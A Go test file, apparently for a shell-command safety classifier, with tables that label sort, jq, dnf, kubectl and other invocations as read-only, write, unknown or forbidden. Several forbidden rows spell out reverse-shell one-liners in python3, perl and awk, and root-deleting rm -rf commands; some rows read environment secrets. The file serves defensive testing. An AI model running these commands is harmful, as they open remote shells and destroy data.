package programs_test

import "testing"

// Each row is a way in which a program's own parser reads words differently from who only looks for "-o".
func TestOptionsAreReadAsTheProgramReadsThem(t *testing.T) {
	table(t, `
		write | sort -o x
		write | sort -ox
		write | sort -rox
		write | sort f -o x
		write | sort --output=x
		write | sort --output x
		write | sort --outp x
		read-only | sort -k -o
		read-only | sort -t -o f
		read-only | sort -- -o x
		read-only | sort --key=-o f
		unknown | sort --output-x f
		unknown | sort --reverse=yes f
		unknown | sort -k
		unknown | sort "$X" f
		unknown | sort -"$X" f
		read-only | sort "./$X"
		unknown | sort ./$X
		write | sort --output="$X" f
		read-only | head --lines="$N" f
		read-only | timeout 5 sort -k1 f
		write | timeout 5 sort -o x f
		unknown | docker --debug=true ps --format
		read-only | kubectl get pods -n=web -o=wide
	`)
}

func TestEveryKnownOptionHoleIsClosed(t *testing.T) {
	table(t, `
		forbidden | python3 -c 'import socket,pty; s=socket.socket(); pty.spawn("/bin/sh")'
		forbidden | perl -e 'use Socket; exec("/bin/sh -i");'
		forbidden | awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"; while (1) { s |& getline c; }}'
		read-only | jq --arg n web '.[] | select(.name == $n)' x
		sensitive-read | jq --arg n web '$ENV[$n]' x
		unknown | jq --arg n . --frob x
		write | rpm -qp http://host/x.rpm
		write | dnf search x
		read-only | dnf -C search x
		read-only | dnf list installed
		write | zypper search x
		unknown | mvn --version
		unknown | cargo --version
		network-read | getent hosts secret.example
		unknown | ss -tn dst secret.example
		unknown | kubectl --context other get pods
		unknown | vmstat 10 100000
		unknown | top -b -n 100000
		write | finger x@host
		forbidden | systemd-run rm -rf /
		forbidden | parallel rm -rf ::: /
		unknown | yq -n 'load("x")'
		sensitive-read | yq -n env
	`)
}
